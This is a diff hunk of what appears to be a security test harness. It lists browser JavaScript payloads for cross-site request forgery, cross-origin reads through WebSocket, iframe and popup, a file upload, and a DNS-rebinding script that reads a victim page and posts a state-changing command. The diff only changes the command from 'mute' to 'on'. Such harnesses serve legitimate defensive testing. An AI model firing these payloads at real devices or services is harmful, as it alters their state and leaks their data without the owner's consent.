@@ -15,9 +15,9 @@ TELL = "const told = []; const tell = (what) => told.push(fetch('/tell', {method
 ATTACKS = {
     "rebind": "",  # the attacker's name leads to the victim itself; see `REBOUND`
     "form": "const f = document.createElement('form'); f.method = 'POST'; f.action = T + '/do';"
-    "f.innerHTML = '<input name=act value=mute>'; document.body.append(f); f.submit();",
-    "plain": "await fetch(T + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'act=mute'})",
-    "img": "const i = new Image(); i.src = T + '/do?act=mute'; await new Promise((ok) => i.onerror = i.onload = ok);",
+    "f.innerHTML = '<input name=act value=on>'; document.body.append(f); f.submit();",
+    "plain": "await fetch(T + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'act=on'})",
+    "img": "const i = new Image(); i.src = T + '/do?act=on'; await new Promise((ok) => i.onerror = i.onload = ok);",
     "websocket": "const w = new WebSocket(T.replace('http', 'ws') + '/live');"
     "await new Promise((ok) => { w.onmessage = (m) => { tell(m.data); ok(); }; w.onerror = w.onclose = ok; });",
     "iframe": "const f = document.createElement('iframe'); f.src = T + '/'; document.body.append(f);"
@@ -31,14 +31,14 @@ ATTACKS = {
     "tell(await (await fetch(T + '/')).text());",
     "popup": "const w = open(T + '/'); await new Promise((ok) => setTimeout(ok, 300));"
     "try { tell(w.document.body.innerText); } catch {} w?.close();",
-    "upload": "const d = new FormData(); d.append('act', 'mute'); d.append('file', new Blob(['x']), 'x.html');"
+    "upload": "const d = new FormData(); d.append('act', 'on'); d.append('file', new Blob(['x']), 'x.html');"
     "await fetch(T + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: d});",
 }
 # What the attacker's script does once its own name leads to the victim: to the browser, both are one site.
 REBOUND = """(async () => {
     const text = await (await fetch("/", {credentials: "include"})).text();
     const headers = {"Content-Type": "application/x-www-form-urlencoded"};
-    await fetch("/do", {method: "POST", headers, body: "act=mute"});
+    await fetch("/do", {method: "POST", headers, body: "act=on"});
     return text;
 })()"""
 
